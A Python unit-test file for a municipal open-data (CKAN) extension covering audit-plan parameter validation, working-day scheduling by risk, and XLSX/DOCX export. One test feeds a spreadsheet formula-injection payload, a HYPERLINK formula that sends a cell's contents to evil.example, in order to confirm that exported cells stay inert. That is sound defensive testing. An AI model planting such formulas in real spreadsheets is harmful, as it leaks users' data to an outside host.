"""The information audit plan: parameters checked as a whole, the schedule on working
days before the deadline, the most at-risk bodies first, and the XLSX and DOCX files.
Plain unit tests, no CKAN."""

from __future__ import annotations

import datetime as dt
import io
import re
from pathlib import Path

import pytest
from docx import Document
from openpyxl import load_workbook

from ckanext.lutsk.domain import annex835, audit_plan, completeness
from ckanext.lutsk.domain import audit_files as audit_export
from ckanext.lutsk.domain.audit_plan import AuditParamError, audit_params, build_plan
from ckanext.lutsk.domain.registry import load_registry
from ckanext.lutsk.domain.timeliness import DayCounts
from ckanext.lutsk.domain.vocabularies import load_vocabulary
from ckanext.lutsk.domain.workdays import WorkCalendar

D = dt.date
CAL = WorkCalendar()
TODAY = D(2026, 11, 24)
REGISTRY = load_registry()
ANNEX = annex835.load_annex(registry=REGISTRY)
SCORER = completeness.Scorer(
    formats=load_vocabulary("formats"),
    frequencies=load_vocabulary("frequencies"),
    languages=load_vocabulary("languages"),
    licences={"cc-by"},
)


def _params(**kw):
    return audit_params(kw.pop("year", 2027), today=kw.pop("today", TODAY), calendar=CAL, **kw)


def _fields(**kw) -> dict[str, str]:
    with pytest.raises(AuditParamError) as err:
        _params(**kw)
    return {p.field: p.message for p in err.value.problems}


def test_defaults_from_the_order_and_the_config():
    p = _params()
    assert (p.year, p.start, p.deadline, p.per_day) == (2027, D(2027, 2, 1), D(2027, 12, 1), 1)
    p = _params(deadline="2027-06-30", start="2027-03-02", per_day="2", default_deadline="11-15")
    assert (p.start, p.deadline, p.per_day) == (D(2027, 3, 2), D(2027, 6, 30), 2)
    assert _params(default_deadline="11-15").deadline == D(2027, 11, 15)
    # Planning later in the year itself: audits start tomorrow, not in the past.
    assert _params(year=2026).start == D(2026, 11, 25)


def test_every_bad_parameter_is_named_at_once():
    problems = _fields(year="20x7", per_day="0", deadline="31.12.2027", start="2027-02-30")
    assert set(problems) == {"year", "per_day", "deadline", "start"}
    assert problems["year"] == "“20x7” is not a year between 2016 and 2100."
    assert problems["deadline"] == "“31.12.2027” is not a date in the form YYYY-MM-DD."
    assert _fields(deadline="2028-01-15") == {"deadline": "2028-01-15 is not in 2027."}
    assert _fields(deadline="2027-01-20") == {
        "deadline": "2027-01-20 is before the first audit day, 2027-02-01."
    }
    assert "no working day" in _fields(start="2027-02-06", deadline="2027-02-07")["deadline"]
    assert _fields(default_deadline="December") == {
        "deadline": "The configured default deadline “December” is not MM-DD."
    }
    assert "per_day" in _fields(per_day="11")


def _rec(name, body, *, state="on_time", private=False, row=None, **passport):
    pkg = {
        "id": f"id-{name}",
        "name": name,
        "title": name.title(),
        "body": body,
        "private": private,
        "state": state,
        "annex835_row": row,
        "title_en": "x",
        "notes_en": "x",
        "notes": "x",
        **passport,
    }
    pkg["score"] = SCORER.score(pkg)
    return pkg


def _plan(records, *, history=None, late=None, **params):
    return build_plan(
        _params(**params),
        registry=REGISTRY,
        annex=ANNEX,
        records=records,
        history=history or {},
        late_days=late or {},
        calendar=CAL,
        today=TODAY,
    )


def test_schedule_spreads_working_days_and_puts_risk_first():
    records = [
        _rec("programmes", "economic-policy", row="L45"),
        _rec("budget", "finance-budget", state="overdue_frequency", row="L31"),
        _rec("budget-old", "finance-budget", state="overdue_change"),
        _rec("draft", "education", private=True, row="L25"),
    ]
    history = {
        "finance-budget": [DayCounts(D(2026, 1, 10), {"on_time": 1, "overdue_change": 3})],
        "economic-policy": [DayCounts(D(2026, 1, 10), {"on_time": 4})],
    }
    plan = _plan(records, history=history, late={"id-budget": ("finance-budget", 40)}, deadline="2027-06-30")
    active = [b for b in REGISTRY if b.active]
    assert [bp.slug for bp in plan.bodies].count("finance-budget") == 1
    assert len(plan.bodies) == len(active), "every active body is audited"
    dates = [bp.audit_date for bp in plan.bodies]
    assert dates == sorted(dates) and len(set(dates)) == len(dates), "one a day, in priority order"
    assert all(CAL.is_working_day(d) and D(2027, 2, 1) <= d <= D(2027, 6, 30) for d in dates)
    assert dates[0] == D(2027, 2, 1) and dates[-1] >= D(2027, 6, 1), "spread over the whole period"
    priorities = [bp.priority for bp in plan.bodies]
    assert priorities == sorted(priorities, reverse=True)

    by = {bp.slug: bp for bp in plan.bodies}
    fin = by["finance-budget"]
    assert fin.on_time_year == 0.25 and fin.on_time_now == 0.0 and fin.history_days == 1
    assert {n for n, _t, _s in fin.late_now} == {"budget", "budget-old"}
    assert fin.late_year == (("budget", "Budget", 40),)
    assert {audit_plan.REASON_LATE, audit_plan.REASON_LATE_YEAR} <= set(fin.reasons)
    econ = by["economic-policy"]
    assert econ.coverage[annex835.PUBLISHED] == 1
    assert "L45" not in {r.id for r in econ.missing} and "L1" in {r.id for r in econ.missing}
    assert by["education"].not_public[0].id == "L25" and by["education"].drafts == 1
    assert audit_plan.REASON_NO_DATA in by["legal"].reasons
    assert plan.bodies.index(fin) < plan.bodies.index(econ)
    assert plan.totals["datasets"] == 4 and plan.totals["late_now"] == 2
    assert plan.window == (D(2025, 11, 25), D(2026, 11, 24)), "the 365 days up to the plan's date"


def test_several_a_day_and_a_deadline_too_close():
    plan = _plan([], per_day="3", deadline="2027-02-28")
    counts = {}
    for bp in plan.bodies:
        counts[bp.audit_date] = counts.get(bp.audit_date, 0) + 1
    assert max(counts.values()) == 3
    with pytest.raises(AuditParamError) as err:
        _plan([], deadline="2027-02-10")
    [problem] = err.value.problems
    assert problem.field == "deadline" and problem.code == "too_few_days"
    assert f"{len(plan.bodies)} bodies at 1 a day need {len(plan.bodies)} working days" in problem.message


def test_abolished_body_that_still_holds_datasets_is_audited():
    reg = load_registry(Path(__file__).parents[1] / "data" / "registry_abolished.yaml")
    plan = build_plan(
        _params(),
        registry=reg,
        annex=annex835.parse_annex(
            "sections: {a: {uk: А}}\nrows:\n  - {id: A1, section: a, title: {uk: Т}, bodies: [education]}\n"
        ),
        records=[_rec("old", "education-directorate")],
        history={},
        late_days={},
        calendar=CAL,
        today=TODAY,
    )
    by = {bp.slug: bp for bp in plan.bodies}
    assert set(by) == {"lutsk-city-council", "education", "education-directorate"}
    assert by["education-directorate"].reasons[-1] == audit_plan.REASON_ABOLISHED
    assert audit_plan.REASON_ABOLISHED not in by["education"].reasons


def test_xlsx_and_docx_carry_the_plan():
    plan = _plan(
        [_rec("programmes", "economic-policy", row="L45", state="overdue_change")], deadline="2027-06-30"
    )
    wb = load_workbook(io.BytesIO(audit_export.plan_to_xlsx(plan)))
    assert wb.sheetnames == ["План", "Органи", "Відсутні набори", "Запізнення"]
    ws = wb["План"]
    assert "План проведення інформаційного аудиту" in ws["A1"].value and "2027" in ws["A1"].value
    header = [c.value for c in ws[6]]
    assert header[:3] == ["№", "Дата аудиту", "Виконавчий орган / підприємство"]
    first = [c.value for c in ws[7]]
    assert first[0] == 1 and first[1].date() == plan.bodies[0].audit_date
    assert ws.max_row == 6 + len(plan.bodies)
    missing = list(wb["Відсутні набори"].values)
    assert ("Департамент економічної політики", "L1") in {(r[0], r[1]) for r in missing}
    late = list(wb["Запізнення"].values)
    assert late[1][1:4] == ("programmes", "Programmes", "прострочено (зміна даних)")

    en = load_workbook(io.BytesIO(audit_export.plan_to_xlsx(plan, "en")))
    assert en.sheetnames[0] == "Plan" and "Lutsk City Council" in en["Plan"]["A1"].value

    doc = Document(io.BytesIO(audit_export.plan_to_docx(plan, kind_label=lambda k: f"kind:{k}")))
    text = "\n".join(p.text for p in doc.paragraphs)
    assert "на 2027 рік" in text and "п. 4.1" in text
    assert "Відсутні обов'язкові набори даних" in text
    table = doc.tables[0]
    assert len(table.rows) == 1 + len(plan.bodies)
    assert table.rows[1].cells[1].text == plan.bodies[0].audit_date.strftime("%d.%m.%Y")
    assert table.rows[1].cells[3].text.startswith("kind:")
    assert doc.sections[0].page_width > doc.sections[0].page_height, "landscape"


def test_xlsx_cells_are_inert():
    evil = '=HYPERLINK("https://evil.example/?x="&A2,"Open")'
    plan = _plan(
        [_rec("programmes", "economic-policy", row="L45", state="overdue_change", title=evil)],
        deadline="2027-06-30",
    )
    wb = load_workbook(io.BytesIO(audit_export.plan_to_xlsx(plan)))
    cells = [c for ws in wb.worksheets for row in ws.iter_rows() for c in row]
    assert all(c.data_type != "f" for c in cells)
    assert "'" + evil in {c.value for c in cells}


def test_the_plan_from_stored_facts_is_the_plan_from_the_records():
    """The pages draw the plan from per-body facts stored as JSON (no dataset read per
    request): the same plan as from the records themselves, and only the ten worst
    datasets of each body over the year are looked up by id."""
    import json

    records = [
        _rec("programmes", "economic-policy", row="L45"),
        _rec("budget", "finance-budget", state="overdue_frequency", row="L31"),
        _rec("budget-old", "finance-budget", state="overdue_change"),
        _rec("draft", "education", private=True, row="L25"),
        *(_rec(f"late-{i:02d}", "education", state="overdue_change") for i in range(12)),
    ]
    late = {f"id-late-{i:02d}": ("education", 100 + i) for i in range(12)}
    late["id-gone"] = ("finance-budget", 7)
    history = {"finance-budget": [DayCounts(D(2026, 1, 10), {"on_time": 1, "overdue_change": 3})]}
    direct = _plan(records, history=history, late=late)
    facts = json.loads(json.dumps({k: f.to_json() for k, f in audit_plan.body_facts(records).items()}))
    asked: list[str] = []
    by_id = {r["id"]: (r["name"], r["title"], r["body"]) for r in records}

    def names(ids):
        asked.extend(ids)
        return {i: by_id[i] for i in ids if i in by_id}

    stored = audit_plan.plan_from_facts(
        _params(),
        registry=REGISTRY,
        facts={k: audit_plan.BodyFacts.from_json(v) for k, v in facts.items()},
        cells=annex835.coverage_matrix(ANNEX, records),
        past=audit_plan.HistoryFacts.from_json(
            json.loads(json.dumps(audit_plan.history_facts(history, late, names).to_json()))
        ),
        calendar=CAL,
        today=TODAY,
    )
    assert stored == direct
    assert len(asked) == 11, "ten of education's twelve, and the one of finance"
    edu = {bp.slug: bp for bp in stored.bodies}["education"]
    assert [t[0] for t in edu.late_year] == [f"late-{i:02d}" for i in range(11, 1, -1)]
    assert {bp.slug: bp for bp in stored.bodies}["finance-budget"].late_year == (("id-gone", "", 7),)


def test_the_xlsx_is_set_up_for_print():
    """The ICT department prints the plan: A4 landscape, one page wide, the header row on
    every page (it had no print setup)."""
    plan = _plan([_rec("programmes", "economic-policy", row="L45")], deadline="2027-06-30")
    wb = load_workbook(io.BytesIO(audit_export.plan_to_xlsx(plan)))
    for ws in wb.worksheets:
        assert ws.page_setup.orientation == "landscape"
        assert int(ws.page_setup.paperSize) == 9  # A4
        assert ws.sheet_properties.pageSetUpPr.fitToPage
        assert ws.page_setup.fitToWidth == 1
        rows = re.fullmatch(r"\$(\d+):\$(\d+)", ws.print_title_rows or "")
        assert rows and rows.group(1) == rows.group(2), "one header row repeats on every page"
